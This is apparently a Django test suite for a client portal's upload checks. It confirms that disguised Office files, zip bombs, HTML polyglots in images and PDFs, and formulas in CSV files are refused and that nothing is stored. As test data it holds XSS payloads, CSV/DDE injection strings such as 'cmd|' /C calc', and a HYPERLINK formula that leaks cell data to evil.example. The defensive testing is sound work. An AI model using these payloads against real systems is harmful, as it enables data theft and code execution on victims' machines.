"""Uploads are what their names say all the way through: Office structure, no markup in text,
no formulas in CSV, no web page hidden in an image or a PDF; refusals store nothing."""

from __future__ import annotations

import io
import os
import zipfile
from unittest import mock

from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image

from portal import files
from portal.models import Approval, Document, DocumentRequest, Submission
from sodium import uploads
from tests import factories as f
from tests.base import BaseTestCase
from tests.portal.helpers import sign_in
from tests.portal.sample_files import (
    HTML_PAGE,
    PDF,
    image_bytes,
    office_bytes,
    office_members,
    zip_bytes,
)
from tests.portal.staff_helpers import (
    PortalStaffTestCase,
    approval_step,
    request_step,
    stored_files,
)

DELIVER = "sodium.tasks.deliver_message_task.delay"


def upload(name: str, data: bytes) -> SimpleUploadedFile:
    return SimpleUploadedFile(name, data, content_type="application/octet-stream")


class UploadCheckTestCase(BaseTestCase):
    def assertAccepted(self, name: str, data: bytes) -> None:  # noqa: N802
        ext, _ = files.check_upload(upload(name, data))
        self.assertEqual(ext, name.rsplit(".", 1)[-1].lower())

    def assertRefused(self, name: str, data: bytes, words: str) -> None:  # noqa: N802
        with self.assertRaises(files.UploadRejected) as caught:
            files.check_upload(upload(name, data))
        self.assertIn(words, str(caught.exception))


class OfficeStructureTests(UploadCheckTestCase):
    def test_it_accepts_a_real_word_document_and_workbook(self) -> None:
        self.assertAccepted("letter.docx", office_bytes("docx"))
        self.assertAccepted("ledger.xlsx", office_bytes("xlsx"))

    def test_it_refuses_a_zip_holding_only_an_html_page(self) -> None:
        evil = zip_bytes({"evil.html": HTML_PAGE})
        self.assertRefused("report.docx", evil, "it does not contain a Word document")
        self.assertRefused("report.xlsx", evil, "it does not contain an Excel workbook")

    def test_it_refuses_a_document_without_its_content_types(self) -> None:
        members = office_members("docx")
        del members["[Content_Types].xml"]
        self.assertRefused("letter.docx", zip_bytes(members), "does not contain a Word document")

    def test_it_refuses_a_document_without_the_part_its_extension_implies(self) -> None:
        self.assertRefused("letter.docx", office_bytes("xlsx"), "is not really a .docx file")
        self.assertRefused("ledger.xlsx", office_bytes("docx"), "is not really a .xlsx file")
        # A zip that the type sniffer takes for Word: only the structure check tells.
        members = office_members("docx")
        del members["word/document.xml"]
        members["word/other.xml"] = "<x/>"
        self.assertRefused("letter.docx", zip_bytes(members), "does not contain a Word document")

    def test_it_refuses_a_macro_enabled_document_renamed_docx(self) -> None:
        docm = office_bytes(
            "docx", main_type="application/vnd.ms-word.document.macroEnabled.main+xml"
        )
        self.assertRefused("letter.docx", docm, "does not contain a Word document")

    def test_it_refuses_a_broken_zip(self) -> None:
        broken = office_bytes("docx")[:200]
        self.assertRefused("letter.docx", broken, "is not really a .docx file")

    def test_it_refuses_a_zip_bomb_from_its_central_directory_without_unpacking(self) -> None:
        members = office_members("docx")
        members["word/media/padding.bin"] = b"\0" * 200_000  # deflates to a few hundred bytes
        bomb = zip_bytes(members)
        self.assertLess(len(bomb), 5000)
        with (
            mock.patch.object(files, "ZIP_MAX_UNPACKED", 100_000),
            mock.patch.object(zipfile.ZipFile, "open", side_effect=AssertionError("unpacked")),
        ):
            self.assertRefused("letter.docx", bomb, "unpacks to more than")

    def test_it_refuses_a_directory_of_too_many_parts_before_parsing_it(self) -> None:
        members = office_members("docx")
        for n in range(30):
            members[f"word/media/p{n}.bin"] = b""
        crowded = zip_bytes(members)
        with (
            mock.patch.object(files, "ZIP_MAX_MEMBERS", 20),
            mock.patch.object(files.zipfile, "ZipFile", side_effect=AssertionError("parsed")),
        ):
            self.assertRefused("letter.docx", crowded, "holds too many parts")

    def test_it_reads_only_a_bounded_content_types_part(self) -> None:
        members = office_members("docx")
        members["[Content_Types].xml"] += " " * 2000
        with mock.patch.object(files, "CONTENT_TYPES_MAX", 1000):
            self.assertRefused("letter.docx", zip_bytes(members), "not really a .docx")

    def test_it_refuses_a_real_document_with_a_web_page_stored_inside(self) -> None:
        members = office_members("docx")
        members["word/page.html"] = HTML_PAGE
        self.assertRefused(
            "letter.docx", zip_bytes(members, stored=True), "has web-page code (“<html”)"
        )


class TextMarkupTests(UploadCheckTestCase):
    def test_it_refuses_an_html_page_named_txt(self) -> None:
        self.assertRefused("notes.txt", HTML_PAGE, "contains web-page code (“<html”)")

    def test_it_refuses_each_kind_of_markup_in_any_case(self) -> None:
        for markup in (
            b"<!DOCTYPE html>",
            b"<ScRiPt>alert(1)</script>",
            b'<svg onload="alert(1)">',
            b"<iframe src=//evil.example>",
            b"<body onload=alert(1)>",
            b'<?xml version="1.0"?><x/>',
        ):
            with self.subTest(markup=markup):
                self.assertRefused("notes.txt", b"Hello\n" + markup, "contains web-page code")
                self.assertRefused("sales.csv", b"a,b\n1," + markup, "contains web-page code")

    def test_it_finds_markup_deep_in_a_large_file_even_across_a_read_boundary(self) -> None:
        # The scan reads 1 MB at a time: put the tag across the first boundary.
        data = b"x" * (1024 * 1024 - 3) + b"<script>alert(1)</script>"
        self.assertRefused("log.txt", data, "contains web-page code (“<script”)")

    def test_it_refuses_elements_the_named_list_leaves_out(self) -> None:
        for markup in (
            b"<image src=x onerror=alert(1)>",
            b"<details open ontoggle=alert(1)>",
            b"<video src=x onerror=alert(1)>",
            b"<a href=javascript:alert(1)>click</a>",
        ):
            with self.subTest(markup=markup):
                self.assertRefused("notes.txt", b"Notes\n" + markup, "web-page code")
                self.assertRefused("photo.png", image_bytes("PNG") + markup, "web-page code")
        # Text has no reason to hold any tag at all.
        self.assertRefused("notes.txt", b"<marquee>hello</marquee>", "web-page code")

    def test_it_accepts_text_with_angle_brackets_that_are_not_markup(self) -> None:
        self.assertAccepted("notes.txt", b"Ann <ann@acme.example> says x<5 and y > 2 <- here")
        self.assertAccepted("sales.csv", b"item,note\nbolts,<10 left\n")


class CsvFormulaTests(UploadCheckTestCase):
    def test_it_refuses_a_csv_starting_with_a_hyperlink_formula(self) -> None:
        csv = b'=HYPERLINK("https://evil.example/?leak="&A2,"Open invoice"),amount\nx,1\n'
        self.assertRefused(
            "bank.csv", csv, 'the cell “=HYPERLINK("https://evil.exam…” on line 1 is a'
        )

    def test_it_refuses_formulas_in_any_cell_quoted_or_not_and_any_delimiter(self) -> None:
        for hostile in (
            b'date,amount\n2026-01-01,"=1+1"\n',
            b"date,amount\n2026-01-01,10\n2026-01-02,@SUM(A1:A2)\n",
            b"date,amount\n2026-01-01,+cmd|' /C calc'!A0\n",
            b"date,amount\n2026-01-01,-2+3+cmd|' /C calc'!A0\n",
            b'date;amount\n2026-01-01;  =HYPERLINK("x")\n',
            b"date\tamount\n2026-01-01\t-SUM(A1)\n",
            b"date,amount\n2026-01-01,-10 + SUM (A1:A2)\n",
            b"sep=|\nname|amount\nx|=1+1\n",
            b'a|b|c\nd|e|f\nx|y|z,=HYPERLINK("https://evil.example")\n',
        ):
            with self.subTest(hostile=hostile):
                self.assertRefused("bank.csv", hostile, "is a spreadsheet formula")

    def test_it_refuses_a_csv_that_declares_an_unusual_delimiter(self) -> None:
        self.assertRefused(
            "sales.csv",
            b'sep=:\nname:amount\nx:=HYPERLINK("http://evil.example","click")\n',
            "makes “:” the delimiter",
        )
        self.assertAccepted("sales.csv", b"sep=;\nname;amount\nbolts;-12.50\n")

    def test_it_names_the_line_of_the_formula(self) -> None:
        data = b"date,amount\n" + b"2026-01-01,10\n" * 5000 + b"2026-02-01,=1+1\n"
        self.assertRefused("bank.csv", data, "on line 5002")

    def test_it_accepts_negative_amounts_phone_numbers_and_text(self) -> None:
        genuine = (
            "date,description,amount,phone\n"
            "2026-01-01,Card payment (Tesco),-12.50,+44 20 7946 0000\n"
            '2026-01-02,"Fee, monthly",-1,-\n'
            "2026-01-03,- Bank fees,+3.00,(020) 7946 0000\n"
            "2026-01-04,a=b,£12.50,\n"
            "2026-01-05,Refund,-12 (refund),-1.5e3\n"
        ).encode()
        self.assertAccepted("bank.csv", genuine)

    def test_it_still_accepts_a_csv_in_an_older_encoding(self) -> None:
        latin = "date,amount\n" + "2026-01-01,10\n" * 1000 + "2026-01-02,£12\n"
        self.assertAccepted("bank.csv", latin.encode("cp1252"))

    def test_a_text_file_may_start_with_an_equals_sign(self) -> None:
        # Only CSV opens in a spreadsheet; a .txt is read as text.
        self.assertAccepted("notes.txt", b"= Meeting notes =\n")


class PolyglotTests(UploadCheckTestCase):
    def test_it_refuses_a_png_with_an_html_page_glued_on(self) -> None:
        self.assertRefused("photo.png", image_bytes("PNG") + HTML_PAGE, "has web-page code")

    def test_it_refuses_a_jpeg_with_script_in_its_comment(self) -> None:
        jpeg = image_bytes("JPEG", comment=b"<script>alert(1)</script>")
        self.assertEqual(Image.open(io.BytesIO(jpeg)).format, "JPEG")
        self.assertRefused("photo.jpg", jpeg, "has web-page code (“<script”)")

    def test_it_refuses_a_gif_carrying_an_svg_with_a_handler(self) -> None:
        gif = image_bytes("GIF") + b'<svg onload="alert(1)">'
        self.assertRefused("anim.gif", gif, "has web-page code (“<svg”)")

    def test_it_refuses_a_pdf_that_is_also_an_html_page(self) -> None:
        self.assertRefused("accounts.pdf", PDF + HTML_PAGE, "has web-page code (“<html”)")
        self.assertRefused(
            "accounts.pdf", PDF.replace(b"%%EOF", b"<script>x()</script>\n%%EOF"), "“<script”"
        )

    def test_it_accepts_genuine_images_and_pdfs(self) -> None:
        self.assertAccepted("photo.png", image_bytes("PNG"))
        self.assertAccepted("photo.jpeg", image_bytes("JPEG"))
        self.assertAccepted("photo.gif", image_bytes("GIF"))
        self.assertAccepted("photo.webp", image_bytes("WEBP"))
        self.assertAccepted("accounts.pdf", PDF)

    def test_compressed_data_does_not_look_like_markup_by_chance(self) -> None:
        noisy = Image.frombytes("RGB", (700, 700), os.urandom(700 * 700 * 3))
        buf = io.BytesIO()
        noisy.save(buf, "PNG")
        self.assertAccepted("scan.png", buf.getvalue())
        self.assertIsNone(
            uploads.find_markup(io.BytesIO(os.urandom(4_000_000)), uploads.BINARY_MARKUP)
        )


class RefusedUploadViewTests(PortalStaffTestCase):
    """Through the pages: the person sees why, and nothing is stored or sent."""

    def test_a_client_uploading_a_polyglot_sees_why_and_nothing_is_kept(self) -> None:
        (step,) = self.attach((request_step(), []))
        self.run_step(step)
        sign_in(self.client, self.ann)
        before = stored_files()
        r = self.client.post(
            f"/portal/items/{step.pk}/submit/",
            {
                "files": [
                    upload("statement.pdf", PDF),
                    upload("passport.png", image_bytes("PNG") + HTML_PAGE),
                ]
            },
        )
        self.assertContains(r, "passport.png has web-page code", status_code=400)
        self.assertFalse(Submission.objects.exists())
        self.assertFalse(Document.objects.exists())
        self.assertEqual(stored_files(), before)
        self.assertEqual(DocumentRequest.objects.get(step=step).status, "open")

    def test_a_clients_files_are_each_checked_once(self) -> None:
        # The checks read a whole file (up to the upload limit): storing must not read it again.
        (step,) = self.attach((request_step(), []))
        self.run_step(step)
        sign_in(self.client, self.ann)
        with mock.patch.object(files, "check_upload", wraps=files.check_upload) as check:
            r = self.client.post(
                f"/portal/items/{step.pk}/submit/",
                {"files": [upload("a.pdf", PDF), upload("b.pdf", PDF)]},
            )
        self.assertLess(r.status_code, 400)
        self.assertEqual(Document.objects.count(), 2)
        self.assertEqual(check.call_count, 2)

    def test_staff_sending_a_fake_docx_for_approval_see_why_and_nothing_is_sent(self) -> None:
        (step,) = self.attach((approval_step(), []))
        self.client.force_login(self.staff)
        before = stored_files()
        with mock.patch(DELIVER), self.captureOnCommitCallbacks(execute=True):
            r = self.client.post(
                f"/documents/steps/{step.pk}/approval/",
                {
                    "file": upload("engagement.docx", zip_bytes({"evil.html": HTML_PAGE})),
                    "title": "Engagement letter",
                    "category": "Engagement letter",
                },
            )
        self.assertContains(r, "engagement.docx is not really a .docx file")
        self.assertFalse(Document.objects.exists())
        self.assertFalse(Approval.objects.exists())
        self.assertEqual(stored_files(), before)


class CsvDownloadTests(BaseTestCase):
    def test_an_uploaded_csv_is_served_back_only_as_an_attachment(self) -> None:
        acme = f.ClientFactory(practice=self.practice)
        document = files.store(
            upload("bank.csv", b"date,amount\n2026-01-01,-12.50\n"),
            practice_id=self.practice.pk,
            client_id=acme.pk,
        )
        r = files.download_response(document)
        self.assertTrue(r["Content-Disposition"].startswith("attachment;"))
        self.assertEqual(r["Content-Type"], "text/csv")
        self.assertEqual(r["X-Content-Type-Options"], "nosniff")
